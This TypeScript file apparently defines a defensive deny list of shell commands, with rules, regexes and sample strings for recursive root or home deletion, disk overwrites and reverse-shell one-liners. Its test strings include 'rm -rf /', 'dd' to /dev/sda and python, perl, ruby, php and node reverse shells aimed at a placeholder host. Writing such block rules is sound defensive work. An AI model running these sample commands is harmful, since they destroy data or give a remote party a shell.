/** Commands that nobody sends to get work done, as rules over the words of one command. */

type Words = readonly (string | undefined)[]

export interface EndRule {
  readonly id: string
  /** The end of a sentence about the value. */
  readonly what: string
  readonly why: string
  /** What can be done instead. */
  readonly hint: string
  readonly holds: (base: string, rest: Words) => boolean
  readonly matches: readonly string[]
  readonly passes: readonly string[]
}

export const END_RULES: readonly EndRule[] = [
  {
    id: 'destroys',
    what: 'deletes everything that can be reached',
    why: 'the top of the file system, or a whole home, holds what every grant holds; no task ends with it',
    hint: 'name the folder that is meant',
    holds: (base, rest) =>
      base === 'rm' &&
      (rest.includes('--no-preserve-root') || (rest.some(isRecursive) && rest.some((word) => ALL.test(word ?? '')))),
    matches: ['rm -rf /', 'rm -r --no-preserve-root /', 'rm --recursive /', 'rm -fR ~', 'sudo rm -rf //'],
    passes: ['rm -rf dist', 'rm -rf /tmp/x', 'rm -r ./*', 'rm /', 'ls -r /', 'rm -rf ~/x'],
  },
  {
    id: 'overwrites',
    what: 'writes over a disk',
    why: 'what is on a device is gone, whichever file it belonged to',
    hint: 'write to a file',
    holds: (base, rest) =>
      MAKES_FILE_SYSTEM.test(base)
        ? rest.some((word) => DISK.test(word ?? ''))
        : OVERWRITES.has(base) &&
          rest.some((word) => DISK.test(word?.replace(/^of=/, '') ?? '') && (base !== 'dd' || word?.startsWith('of='))),
    matches: ['mkfs.ext4 /dev/sda1', 'dd if=/dev/zero of=/dev/sda', 'shred /dev/nvme0n1', 'wipefs -a /dev/sdb'],
    passes: ['mkfs.ext4 disk.img', 'dd if=/dev/zero of=disk.img', 'dd if=/dev/sda of=x.img', 'dd of=/dev/null', 'shred a.txt'],
  },
  {
    id: 'remote',
    what: 'gives a shell to whoever is at the other end of a connection',
    why: 'a program that opens a connection and starts a shell in the same breath hands over what it may reach',
    hint: 'send a program that does one of the two',
    holds: (base, rest) => INTERPRETERS.test(base) && rest.some((word) => CONNECTS.test(word ?? '') && STARTS.test(word ?? '')),
    matches: [
      `python3 -c 'import socket,os;s=socket.socket();s.connect(("a",1));os.dup2(s.fileno(),0);os.execl("sh")'`,
      `perl -e 'use Socket;socket(S);connect(S,1);exec("/bin/sh -i");'`,
      `ruby -rsocket -e 'c=TCPSocket.new("a",1);exec "sh"'`,
      `php -r '$s=fsockopen("a",1);shell_exec("sh <&3");'`,
      `node -e 'c=n.createConnection(1,"a",()=>p.spawn("sh"))'`,
    ],
    passes: [
      `python3 -c 'import socket; print(socket.gethostname())'`,
      `node -e 'c.spawn("ls")'`,
      `python3 -c 'import subprocess; print(1)'`,
      'python3 server.py',
    ],
  },
]

const isRecursive = (word: string | undefined): boolean => /^(?:-[A-Za-z]*[rR][A-Za-z]*|--recursive)$/.test(word ?? '')
const ALL = /^(?:\/+|~\/?|\/home\/?|\/root\/?)$/
const MAKES_FILE_SYSTEM = /^mkfs(?:\.\w{1,10})?$/
const OVERWRITES: ReadonlySet<string> = new Set(['dd', 'shred', 'wipefs', 'blkdiscard'])
const DISK = /^\/dev\/(?:sd|hd|vd|xvd|nvme|mmcblk|dm-|mapper\/|disk\/)/
const INTERPRETERS = /^(?:python[\d.]{0,5}|perl|ruby|php[\d.]{0,4}|node|nodejs|deno|bun|lua[\d.]{0,4})$/
const CONNECTS = /\bsocket\s?[.(]|\bSocket\b|\bTCPSocket\b|\bfsockopen\b|["']net["']|\bDeno\.connect\b|\bcreate_?[cC]onnection\b/
const STARTS =
  /\bpty\.spawn\b|\bos\.(?:system|popen|exec\w{1,3}|dup2)\b|\bsubprocess\.|\bexec\s?[("']|\bsystem\s?[("']|\bshell_exec\b|\bproc_open\b|\bpopen\b|\bspawn\s?\(|\bchild_process\b|\bDeno\.(?:run|Command)\b|\bos\.execute\b/
